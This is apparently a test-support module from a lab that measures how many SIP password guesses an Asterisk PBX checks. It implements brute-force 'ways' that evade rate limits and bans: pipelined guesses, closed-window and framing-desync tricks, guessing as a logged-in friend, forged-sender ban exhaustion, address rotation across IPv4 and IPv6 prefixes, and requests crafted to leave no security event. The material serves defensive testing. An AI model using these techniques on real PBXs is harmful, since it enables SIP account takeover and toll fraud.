"""Ways to guess without reading an answer, and the number of guesses whose password Asterisk checked.

    with traced(lab) as trace:
        [found] = trace.count((pipelined("TLS"), Trial(lab, number=1, right_at=40)))
        assert (found.refused, found.registered) == (3, False)

A guesser needs no answers: guess 40 has the Contact ``<sip:g40@elsewhere>``, and if it is right, it shows
itself by its registration. So the number of answers does not show how many guesses were checked. Asterisk's
trace of its SIP messages does (``pjsip set logger pcap``): it has each answer in the clear, by every
transport, also of a hidden guess, and also if the answer never leaves the host. The Via branch of an answer
names its guess. The answer to the right one, whose number is known, lists its contact as registered.
"""

import os
import re
import socket
import time
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path

from attrs import define, evolve, field, frozen
from tests.support import blames, netns, phones
from tests.support.asterisk_files import CERTIFICATE_NAME, PASSWORD, pjsip_account
from tests.support.forger import Forger, quiet
from tests.support.lab import Lab
from tests.support.netns import run
from tests.support.network import PBX_IPV4, PBX_IPV6
from tests.support.sip_raw import PORTS, Caller, Raw, request_of
from tests.support.sip_streams import WebSocketWire, open_wire
from tests.support.sip_wire import Challenge, Wire, branch_of, challenge_of, status_of

MANY = 60
"""The guesses of a way that sends them one after the other: the right one is not the last."""
AT_ONCE = {"UDP": 250, "TCP": 120, "TLS": 120, "WS": 120}
"""The guesses that are sent at once, by transport."""
HIDDEN = Raw(call_id=b"\xff{}m", from_display=b'"x\x1b["')
"""Asterisk writes no security event about it, and no address into its log."""
TWO_VIAS = Raw(vias=b"Via: SIP/2.0/UDP 198.19.250.9:5060;branch=z9hG4bKbelow\r\n")
"""A second Via below the sender's own, as behind a proxy."""
PLAIN = Raw()
FOLDED = evolve(request_of(b"OPTIONS", b"nobody"), extra=b"Subject: a\r\n b\r\n")
"""A request with one header in two lines."""
FORGED = 800
"""So many forged senders use up the bans of a minute that nothing proves."""
_APART = 32
"""Eight forged senders of a /24: the ration of questions lets these ask as much as each alone."""

PATIENCE = 90.0
"""Seconds for which a guesser keeps its connection."""
_SOON = 10.0
"""The same for guesses that are sent at once."""
_SEND_BUFFER = 4 << 20
_SMALL_WINDOW = 2_304
_SO_SNDBUFFORCE = 32
_BYES = 40
"""So many answers fill a small window and Asterisk's own buffer for it."""
_LEARNED = 1.0
"""Seconds after which a login has made its sender a friend."""
_LOGIN = 10.0
"""Seconds for which a sender tries to log in."""
_REST = 1.0
"""Seconds without a check after which Asterisk has checked everything."""
_ABREAST = 50
_BLOCK = "fd00:40::/26"
_ROUTER = "fd00:18::fffe"
_ETHERNET, _UDP = 14, 8
_IP = {b"\x08\x00": 20, b"\x86\xdd": 40}
_BRANCH = re.compile(r"z9hG4bKchecked-(\d+)-(\d+)-")
_REFUSALS = {401, 403, 407}

_MORE_TRANSPORTS = f"""
[tls6]
type = transport
protocol = tls
bind = [{PBX_IPV6}]:5061
cert_file = /etc/asterisk/{CERTIFICATE_NAME}
priv_key_file = /etc/asterisk/{CERTIFICATE_NAME}
method = tlsv1_2
"""


VICTIM = b"victim"
"""The account to guess at."""
_NONCE_LASTS = 600
"""Seconds; a guesser could also ask for another nonce."""


PORTS_16 = {"UDP": 5080, "TCP": 5080, "TLS": 5081}
"""The ports of PJSIP in a laboratory of Asterisk 16."""


def configured(release: str = "22") -> dict[str, str]:
    """Return the configuration of an Asterisk that answers by every transport, 22 by TLS over IPv6 too."""
    texts = blames.configured(release)
    auth, aor = f"nonce_lifetime = {_NONCE_LASTS}\n", "max_contacts = 2\n"
    more = pjsip_account(VICTIM.decode(), auth=auth, aor=aor)
    transports = _MORE_TRANSPORTS if release == "22" else ""
    return {**texts, "pjsip.conf": texts["pjsip.conf"] + transports + more}


def route(lab: Lab) -> None:
    """Route the IPv6 networks of the trials to the attacker's side."""
    lab.run("ip", "route", "replace", _BLOCK, "via", _ROUTER)
    run(*lab.network.in_attacker("ip", "route", "replace", "local", _BLOCK, "dev", "lo"))


@frozen
class Trial:
    """One attack on an account, from networks of its own; the guess ``right_at`` has the right password.

    With ``and_later``, all later guesses have it too: a ration lets some guesses pass and drops others. So
    which one passes is chance, and a single right one would rarely be it. ``number`` is between 1 and 95, and
    no two trials of a laboratory share it. ``is_over`` ends the wait for what the kernel still delays: the
    guard has banned the address, or Asterisk has checked all guesses.
    """

    lab: Lab
    number: int
    right_at: int
    is_over: Callable[[str], bool] = lambda _: False
    account: bytes = VICTIM
    ports: Mapping[str, int] = PORTS
    and_later: bool = False

    @property
    def elsewhere(self) -> str:
        """The host of its Contacts, which is not one of its senders."""
        return f"198.18.3.{self.number}"

    def address(self, host: int = 7, version: int = 4) -> str:
        """Return an address of its /24, or of its first /64."""
        return f"198.19.{self.number}.{host}" if version == 4 else f"fd00:40:{self.number:x}::{host:x}"

    def in_64(self, number: int) -> str:
        """Return an address in one of the /64s of its /48."""
        return f"fd00:40:{self.number:x}:{number:x}::7"

    def in_48(self, number: int) -> str:
        """Return an address in one of the /48s of its /32; ``self.number`` is below 64."""
        return f"fd00:{0x40 + self.number:x}:{number:x}::7"

    def guess(self, number: int, challenge: Challenge, request: Raw, here: str, transport: str) -> bytes:
        """Return a guess: ``request`` with a Contact and a Via branch that name its number."""
        right = number == self.right_at or (self.and_later and number > self.right_at)
        password = PASSWORD if right else f"wrong-{number}"
        contact = b"g%d@%s" % (number, self.elsewhere.encode())
        guess = evolve(request, from_user=self.account, contact=contact).answering(challenge, password)
        return guess.encode(here, transport, f"checked-{self.number}-{number}-{os.urandom(3).hex()}")

    @contextmanager
    def open(self, source: str, transport: str = "UDP", window: int = 0) -> Iterator[Wire]:
        """Yield a socket that accepts everything to be sent, however slowly it leaves."""
        host = PBX_IPV6 if ":" in source else PBX_IPV4
        with netns.inside(self.lab.network.attacker):
            wire = open_wire(transport, (host, self.ports[transport]), source, 5.0, window=window)
        try:
            with socket.socket(fileno=os.dup(wire.fileno())) as same:
                same.setsockopt(socket.SOL_SOCKET, _SO_SNDBUFFORCE, _SEND_BUFFER)
            yield wire
        finally:
            wire.close()

    def challenge(self, wire: Wire, transport: str) -> Challenge:
        """Return a challenge, which each guard must let a new sender have: without it nothing is measured."""
        asking = Raw(from_user=self.account)
        for _ in range(4):
            if (challenge := Caller(wire, transport).challenged(asking, 2.0)) is not None:
                return challenge
        raise RuntimeError(f"{wire.contact} got no challenge by {transport}")

    def challenge_by_udp(self, source: str) -> Challenge:
        """Return a challenge to a new sender, whose guesses go another way."""
        with self.open(source) as wire:
            return self.challenge(wire, "UDP")

    def log_in(self, wire: Wire, transport: str) -> int:
        """Register the sender's own account, by which it becomes a friend; return the last answer's status.

        The status is 0 without an answer. Asterisk may be busy with other senders, so the sender tries for
        ten seconds.
        """
        own = Raw(from_user=b"phone%d" % (1 + self.number % phones.NUMBERS))
        end = time.monotonic() + _LOGIN
        while (status := Caller(wire, transport).guess(own, PASSWORD, 2.0)) != 200 and time.monotonic() < end:
            time.sleep(0.2)
        time.sleep(_LEARNED)
        return status

    def wait(self, source: str, seconds: float = PATIENCE) -> None:
        """Wait until the trial of ``source`` is over, at most ``seconds``."""
        end = time.monotonic() + seconds
        while time.monotonic() < end and not self.is_over(source):
            time.sleep(0.25)


Way = Callable[[Trial], None]
"""A way to guess: it sends the guesses of a trial."""


@frozen
class Checked:
    """The guesses of a trial that Asterisk checked: how many it refused, and how many registered."""

    refused: int
    registered: int

    @property
    def number(self) -> int:
        """How many were checked."""
        return self.refused + self.registered


# -- the ways


def _send(
    trial: Trial,
    wire: Wire,
    transport: str,
    challenge: Challenge,
    numbers: Iterable[int],
    request: Raw = HIDDEN,
) -> None:
    """Send guesses back to back."""
    for message in [trial.guess(number, challenge, request, wire.contact, transport) for number in numbers]:
        wire.send(message)


def _send_each(
    trial: Trial,
    wire: Wire,
    transport: str,
    challenge: Challenge,
    numbers: Iterable[int],
    rate: float,
    request: Raw = HIDDEN,
) -> None:
    """Send guesses, ``rate`` a second."""
    for number in numbers:
        _send(trial, wire, transport, challenge, [number], request)
        time.sleep(1.0 / rate)


def pipelined(transport: str, version: int = 4) -> Way:
    """Send all guesses at once with one nonce; nothing is hidden."""

    def way(trial: Trial) -> None:
        source = trial.address(version=version)
        with trial.open(source, transport) as wire:
            challenge = trial.challenge(wire, transport)
            _send(trial, wire, transport, challenge, range(1, AT_ONCE[transport] + 1), Raw())
            trial.wait(source, 0.0 if transport == "UDP" else _SOON)

    return way


def one_by_one(trial: Trial) -> None:
    """Guess by UDP at once after each answer, or after a third of a second without one."""
    source, end = trial.address(), time.monotonic() + _SOON
    with trial.open(source) as wire:
        challenge = trial.challenge(wire, "UDP")
        for number in range(1, AT_ONCE["UDP"] + 1):
            if time.monotonic() > end:
                break
            _send(trial, wire, "UDP", challenge, [number], Raw())
            wire.receive(0.3)


def unread(transport: str) -> Way:
    """Guess 28 times a second on a connection whose window is closed, hidden."""

    def way(trial: Trial) -> None:
        source = trial.address()
        challenge = trial.challenge_by_udp(source)
        with trial.open(source, transport, _SMALL_WINDOW) as wire:
            _send_each(trial, wire, transport, challenge, range(1, MANY + 1), 28.0)
            trial.wait(source)

    return way


def out_of_step(transport: str) -> Way:
    """Send one folded header by TCP, or one fragmented frame by WebSocket; then guess hidden.

    Forty answers to BYE fill the window before the guesses.
    """

    def way(trial: Trial) -> None:
        source = trial.address()
        challenge = trial.challenge_by_udp(source)
        with trial.open(source, transport, _SMALL_WINDOW) as wire:
            if isinstance(wire, WebSocketWire):
                wire.fragments = 2
            wire.send(FOLDED.encode(wire.contact, transport))
            if isinstance(wire, WebSocketWire):
                wire.fragments = 1
            for _ in range(_BYES):
                wire.send(request_of(b"BYE", b"nobody").encode(wire.contact, transport))
                time.sleep(0.002)
            time.sleep(0.3)
            _send_each(trial, wire, transport, challenge, range(1, MANY + 1), 100.0)
            trial.wait(source)

    return way


def as_friend(transport: str) -> Way:
    """Log in with one account, and guess at another one on the same connection, hidden."""

    def way(trial: Trial) -> None:
        source = trial.address()
        with trial.open(source, transport) as wire:
            if (status := trial.log_in(wire, transport)) != 200:
                raise RuntimeError(f"{source} could not register by {transport}: {status}")
            challenge = trial.challenge(wire, transport)
            _send_each(trial, wire, transport, challenge, range(1, MANY + 1), 100.0)
            trial.wait(source)

    return way


def new_friends(version: int, addresses: int, each: int = 29) -> Way:
    """Log in from a new address, guess ``each`` times at another account, and go on from the next address."""

    def way(trial: Trial) -> None:
        for number in range(addresses):
            with trial.open(trial.address(1 + number, version)) as wire:
                if (status := trial.log_in(wire, "UDP")) != 200:
                    if not number:
                        raise RuntimeError(f"{wire.contact} could not register by UDP: {status}")
                    return
                challenge = Caller(wire, "UDP").challenged(Raw(from_user=trial.account), 2.0)
                if challenge is not None:
                    first = number * each + 1
                    _send_each(trial, wire, "UDP", challenge, range(first, first + each), 50.0, Raw())

    return way


def after_forged(trial: Trial) -> None:
    """Use up the minute's claimed bans by forged senders; then guess from one address with two Vias.

    Its port may send one datagram a second after the first ones, at a moment that no guesser chooses: the
    fifth guess that Asterisk checks is one of the 30th to 41st, or a later one if all share the cores. From
    the 120th on all are right, so the seventh would register.
    """
    quiet(trial.lab)
    first = f"198.19.128.{1 + trial.number % (_APART - 1)}"  # each trial has new senders
    forger = Forger(trial.lab, first, FORGED, 6, 3_000.0, step=_APART)
    try:
        forger.sent()
    finally:
        forger.stop()
    source, trial = trial.address(), evolve(trial, right_at=2 * MANY, and_later=True)
    with trial.open(source) as wire:
        challenge = trial.challenge(wire, "UDP")
        _send_each(trial, wire, "UDP", challenge, range(1, 4 * MANY + 1), 40.0, TWO_VIAS)


def rotating(addresses: Callable[[Trial], Sequence[str]], each: int, request: Raw = TWO_VIAS) -> Way:
    """Guess ``each`` times from each address, fifty addresses at a time; each asks for its own nonce."""

    def way(trial: Trial) -> None:
        every = addresses(trial)
        for start in range(0, len(every), _ABREAST):
            _abreast(trial, every[start : start + _ABREAST], start * each, each, request)

    return way


def _abreast(trial: Trial, sources: Sequence[str], before: int, each: int, request: Raw) -> None:
    """Ask from all these addresses, then guess from all of them."""
    host = PBX_IPV6 if ":" in sources[0] else PBX_IPV4
    with netns.inside(trial.lab.network.attacker):
        wires = [open_wire("UDP", (host, PORTS["UDP"]), source) for source in sources]
    try:
        callers = [Caller(wire, "UDP") for wire in wires]
        asking = evolve(request, from_user=trial.account)
        challenges = _challenges(callers, asking)
        if not before and not any(challenges):
            raise RuntimeError(f"{sources[0]} and its neighbours got no challenge")
        for number in range(each):
            for at, (wire, challenge) in enumerate(zip(wires, challenges, strict=True)):
                if challenge is not None:
                    place = before + number * len(wires) + at + 1  # in the order of time
                    _send(trial, wire, "UDP", challenge, [place], request)
            time.sleep(0.05)
    finally:
        for wire in wires:
            wire.close()


def _challenges(callers: Sequence[Caller], asking: Raw) -> list[Challenge | None]:
    """Ask from each, twice if none is challenged: a new network loses its first packets by IPv6."""
    found: list[Challenge | None] = []
    for _ in range(2):
        for caller in callers:
            caller.send(asking)
        end = time.monotonic() + 0.3
        answers = [caller.answer(max(end - time.monotonic(), 0.001)) for caller in callers]
        found = [challenge_of(answer or b"") for answer in answers]
        if any(found):
            break
    return found


def of_a_24(trial: Trial) -> Sequence[str]:
    """Return sixty addresses of a /24."""
    return [trial.address(host) for host in range(1, 61)]


def of_64s(trial: Trial) -> Sequence[str]:
    """Return an address in each of forty /64s of a /48."""
    return [trial.in_64(number) for number in range(40)]


def of_a_32(trial: Trial) -> Sequence[str]:
    """Return an address in each of a hundred /48s of a /32."""
    return [trial.in_48(number) for number in range(100)]


def of_24s(trial: Trial) -> Sequence[str]:
    """Return nineteen addresses in each of 24 /24s, one address of each /24 after the other."""
    first = 24 * (trial.number - 1)
    return [f"198.19.{first + network}.{100 + host}" for host in range(19) for network in range(24)]


# -- the count


@contextmanager
def traced(lab: Lab) -> Iterator["Trace"]:
    """Make Asterisk trace its SIP messages while the block runs."""
    trace = Trace(lab)
    try:
        yield trace
    finally:
        lab.asterisk.cli("pjsip set logger off")


@define
class Trace:
    """Asterisk's trace of its SIP messages. Each look begins a new file, which completes the last."""

    lab: Lab
    refused: dict[int, set[int]] = field(factory=dict)
    registered: dict[int, set[int]] = field(factory=dict)
    """The numbers of the refused guesses, and of those that registered, by the number of their trial."""
    _files: int = 0

    def __attrs_post_init__(self) -> None:
        self.lab.asterisk.cli("pjsip set logger verbose off")
        self._next()
        self.lab.asterisk.cli("pjsip set logger on")

    def count(self, *attacks: tuple[Way, Trial], apart: float = 0.0) -> list[Checked]:
        """Make these trials side by side, and return what Asterisk checked of each.

        ``apart`` are the seconds between their begins. No trial waits for the end of another one.
        """

        def made(way: Way, trial: Trial, after: float) -> None:
            time.sleep(after)
            way(trial)

        with ThreadPoolExecutor(len(attacks)) as pool:
            running = [pool.submit(made, *attack, at * apart) for at, attack in enumerate(attacks)]
            while not all(future.done() for future in running):
                self._read()
                time.sleep(_REST / 2)
        for future in running:
            future.result()
        time.sleep(_REST)
        while self._read():
            time.sleep(_REST)
        return [
            Checked(
                len(self.refused.get(trial.number, ())),
                len(self.registered.get(trial.number, ())),
            )
            for _, trial in attacks
        ]

    def total(self, number: int) -> int:
        """Return how many guesses of a trial Asterisk has checked, as far as the trace was read."""
        return len(self.refused.get(number, ())) + len(self.registered.get(number, ()))

    def _read(self) -> bool:
        """Read the file so far; return whether Asterisk checked a guess in it."""
        path = self._path
        self._next()
        found = False
        for message in _messages(path.read_bytes()):
            if (guess := _BRANCH.match(branch_of(message))) is None:
                continue
            trial, number = int(guess[1]), int(guess[2])
            if status_of(message) in _REFUSALS:
                found = True
                self.refused.setdefault(trial, set()).add(number)
            elif status_of(message) == 200 and b"<sip:g%d@" % number in message:
                self.registered.setdefault(trial, set()).add(number)
        path.unlink()
        return found

    def _next(self) -> None:
        self._files += 1
        self.lab.asterisk.cli(f"pjsip set logger pcap /var/log/asterisk/{self._path.name}")

    @property
    def _path(self) -> Path:
        return self.lab.asterisk.logs / f"sip-{self._files}.pcap"


def _messages(pcap: bytes) -> Iterator[bytes]:
    """Yield the SIP messages of a file of packets. Asterisk writes each as a datagram of Ethernet."""
    at = 24
    while at < len(pcap):
        size = int.from_bytes(pcap[at + 8 : at + 12], "little")
        frame = pcap[at + 16 : at + 16 + size]
        yield frame[_ETHERNET + _IP[frame[12:14]] + _UDP :]
        at += 16 + size
